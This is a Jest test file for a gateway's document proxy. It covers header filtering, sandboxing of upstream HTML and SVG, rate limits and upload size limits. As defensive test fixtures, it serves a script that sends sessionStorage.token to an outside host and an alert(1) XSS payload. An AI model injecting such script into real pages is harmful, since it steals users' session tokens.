import { createServer } from 'node:http';
import { describe, expect, it } from '@jest/globals';
import express from 'express';
import { createDocumentPlaces } from '../../../gateway/http/document-places.ts';
import { createDocumentProxy, DOCUMENTS_PATH } from '../../../gateway/http/documents.ts';
import { openResponse } from '../../../gateway/http/http-app.ts';
import { answerRefusals } from '../../../gateway/http/refusals.ts';
import type { Place } from '../../../gateway/partitions/endpoints.ts';
import { createRateLimits } from '../../../gateway/limits/rate.ts';
import { listen } from '../../../subgraphs/kit/http/listen.ts';
import { createLog } from '../../../subgraphs/kit/process/log.ts';
import { startScriptedServer, type ScriptedServer } from '../support/scripted-server.ts';
import { TEST_TRAFFIC } from '../support/test-settings.ts';

interface Gateway extends AsyncDisposable {
  url: string;
  subgraph: ScriptedServer;
}

/** A gateway as far as documents need one. */
async function startGateway(places: ReadonlyMap<string, Place> = new Map()): Promise<Gateway> {
  await using resources = new AsyncDisposableStack();
  const subgraph = resources.use(await startScriptedServer());
  const proxy = resources.use(
    createDocumentProxy({
      find: createDocumentPlaces({
        subgraphs: ['casework', 'districts'],
        urlOf: () => `${subgraph.url}/graphql`,
        partitioned: () => 'districts',
        placeOf: (partition) => places.get(partition) ?? { kind: 'unknown' },
      }),
      rates: createRateLimits({
        actor: null,
        queryCode: null,
        work: null,
        address: { count: 3, seconds: 3_600 },
      }),
      trustedProxies: 0,
      timeoutMs: TEST_TRAFFIC.timeoutMs,
      maxUploadBytes: 10,
    }),
  );
  const app = express();
  app.use((request, response, next) => {
    openResponse(request, response);
    next();
  });
  app.route(DOCUMENTS_PATH).get(proxy.handle).put(proxy.handle);
  app.use(answerRefusals(createLog('gateway', 'silent'), 1_000));
  const server = createServer(app);
  const url = await listen(server, 0);
  resources.defer(() => {
    server.closeAllConnections();
    server.close();
  });
  const held = resources.move();
  return { url, subgraph, [Symbol.asyncDispose]: () => held.disposeAsync() };
}

describe('documents', () => {
  it('are handed on with their type, name and policy, and under the id of the request', async () => {
    await using gateway = await startGateway();
    gateway.subgraph.script((response) => {
      response.setHeader('content-type', 'application/pdf');
      response.setHeader('content-disposition', "inline; filename*=UTF-8''a.pdf");
      response.setHeader('content-security-policy', "frame-ancestors 'none'");
      response.setHeader('x-inner', 'not for clients');
      response.end('%PDF');
    });
    const response = await fetch(`${gateway.url}/documents/casework/abc`, {
      headers: { 'x-request-id': 'r-1', authorization: 'Bearer of-the-client' },
    });
    expect(await response.text()).toBe('%PDF');
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe("inline; filename*=UTF-8''a.pdf");
    expect(response.headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
    expect(response.headers.get('x-inner')).toBeNull();
    expect(gateway.subgraph.requests).toMatchObject([{ 'x-request-id': 'r-1' }]);
    expect(gateway.subgraph.requests[0]).not.toHaveProperty('authorization');
  });

  it('of a district run nothing under the address of the gateway, whatever its system says they are', async () => {
    await using district = await startScriptedServer();
    const place = { url: `${district.url}/graphql`, partitions: ['511602'] };
    const endpoint = { fetch: () => Promise.reject(new Error('no query is asked')) };
    const own: Place = { kind: 'own', endpoint, ...place };
    await using gateway = await startGateway(new Map([['511602', own]]));
    for (const status of [200, 404]) {
      district.script((response) => {
        response.setHeader('content-type', 'text/html');
        response.setHeader('content-security-policy', "script-src 'unsafe-inline'");
        response
          .writeHead(status)
          .end('<script>fetch("//elsewhere/" + sessionStorage.token)</script>');
      });
      const response = await fetch(`${gateway.url}/documents/districts/511602/abc`);
      await response.text();
      expect(response.headers.get('content-security-policy')).toBe(
        "script-src 'unsafe-inline', sandbox",
      );
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it.each([['text/html'], ['image/svg+xml'], [null]])(
    'run no script at the address of the city’s own pages, as %s',
    async (contentType) => {
      await using gateway = await startGateway();
      gateway.subgraph.script((response) => {
        if (contentType !== null) response.setHeader('content-type', contentType);
        response.setHeader('content-security-policy', "script-src 'unsafe-inline'");
        response.end('<script>alert(1)</script>');
      });
      const { headers } = await fetch(`${gateway.url}/documents/casework/abc`);
      expect(headers.get('content-security-policy')).toBe("script-src 'unsafe-inline', sandbox");
    },
  );

  it('keep the status of a refusal', async () => {
    await using gateway = await startGateway();
    gateway.subgraph.script((response) => response.writeHead(404).end('{"errors":[]}'));
    const response = await fetch(`${gateway.url}/documents/casework/abc`);
    expect([response.status, await response.text()]).toEqual([404, '{"errors":[]}']);
  });

  it('that break off do not look whole', async () => {
    await using gateway = await startGateway();
    gateway.subgraph.script((response) => {
      response.writeHead(200, { 'content-type': 'text/csv' });
      response.write('one', () => response.destroy());
    });
    // it may break off before its head is out
    const whole = fetch(`${gateway.url}/documents/casework/abc`).then((response) =>
      response.text(),
    );
    await expect(whole).rejects.toThrow();
  });

  it('are 503 SUBGRAPH_UNAVAILABLE while their subgraph is away', async () => {
    await using gateway = await startGateway();
    await gateway.subgraph[Symbol.asyncDispose]();
    const response = await fetch(`${gateway.url}/documents/casework/abc`);
    expect(response.status).toBe(503);
    expect(await response.json()).toMatchObject({
      errors: [{ extensions: { code: 'SUBGRAPH_UNAVAILABLE', subgraph: 'casework' } }],
    });
  });

  it('count for the rate of an address, so that nobody tries tokens', async () => {
    await using gateway = await startGateway();
    const statuses: number[] = [];
    for (let tried = 0; tried < 4; tried += 1)
      statuses.push((await fetch(`${gateway.url}/documents/casework/abc`)).status);
    expect(statuses).toEqual([200, 200, 200, 429]);
  });

  it('are nowhere for a subgraph that has none, or a place that it has not', async () => {
    await using gateway = await startGateway();
    for (const path of ['mayor/abc', 'casework/511602/abc', 'abc'])
      expect((await fetch(`${gateway.url}/documents/${path}`)).status).toBe(404);
    expect(gateway.subgraph.requests).toEqual([]);
  });
});

function put(url: string, body: string): Promise<Response> {
  return fetch(url, { method: 'PUT', body, headers: { authorization: 'Bearer of-the-client' } });
}

describe('files that are handed in', () => {
  it('are handed on with their length, and nothing that says who sent them', async () => {
    await using gateway = await startGateway();
    gateway.subgraph.script((response) => response.writeHead(204).end());
    const response = await put(`${gateway.url}/documents/casework/abc`, '0123456789');
    expect(response.status).toBe(204);
    expect(gateway.subgraph.requests).toMatchObject([{ 'content-length': '10' }]);
    expect(gateway.subgraph.requests[0]).not.toHaveProperty('authorization');
  });

  it('are refused before they are sent where they are too large', async () => {
    await using gateway = await startGateway();
    const response = await put(`${gateway.url}/documents/casework/abc`, '0123456789a');
    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({
      errors: [{ extensions: { code: 'LIMIT_EXCEEDED', limit: 'uploadBytes', maximum: 10 } }],
    });
    expect(gateway.subgraph.requests).toEqual([]);
  });

  it("go to a district's own system, or say that nobody knows it", async () => {
    await using own = await startScriptedServer();
    const endpoint = { fetch: () => Promise.resolve({ data: null, errors: [] }) };
    const place: Place = { kind: 'own', endpoint, url: `${own.url}/graphql`, partitions: [] };
    await using gateway = await startGateway(
      new Map<string, Place>([
        ['511602', place],
        ['511622', { kind: 'undecided' }],
      ]),
    );
    const statuses: number[] = [];
    for (const code of ['511602', '511622', '999999'])
      statuses.push((await put(`${gateway.url}/documents/districts/${code}/abc`, 'x')).status);
    expect(statuses).toEqual([200, 503, 404]);
    expect(own.requests).toHaveLength(1);
  });
});
